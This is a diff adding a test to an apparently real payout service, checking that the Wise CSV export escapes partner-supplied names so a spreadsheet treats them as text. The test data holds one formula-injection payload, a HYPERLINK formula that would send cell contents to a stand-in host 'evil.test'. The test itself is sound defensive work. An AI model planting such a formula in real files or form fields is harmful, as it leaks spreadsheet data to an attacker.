@@ -327,3 +327,22 @@ def test_each_skipped_partner_is_told_every_reason_it_is_not_paid(
     assert "Below the minimum" in reasons[small_with_method] and "No payout method" not in reasons[small_with_method]
     listed = {s["partner_id"]: s["reasons"] for s in preview["skipped"]}
     assert len(listed[small_without_method]) == 2 and len(listed[rich_without_method]) == 1
+
+
+def test_a_payout_file_never_hands_a_spreadsheet_a_formula(client: TestClient, program: ProgramKeys) -> None:
+    """The account holder's name is the partner's own text: a spreadsheet opening the Wise file reads it as text."""
+    attack = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
+    wise = partner_with_method(
+        client,
+        program,
+        {"type": "wise", "account_holder_name": attack, "iban": "GB82WEST12345698765432", "currency": "usd"},
+    )
+    earn(client, program, wise, 6000)
+    confirmed = run(client, program)
+    wise_csv = client.get(f"/api/v1/payouts/runs/{confirmed['id']}/export.csv?format=wise", headers=program.headers)
+    assert wise_csv.status_code == 200, wise_csv.text
+    [row] = list(csv.DictReader(io.StringIO(wise_csv.text)))
+    assert row["name"] == "'" + attack  # shown as text; the apostrophe is not part of the cell's value
+    assert row["amount"] == "60.00"  # numbers stay numbers
+    for cells in csv.reader(io.StringIO(wise_csv.text)):
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), cells
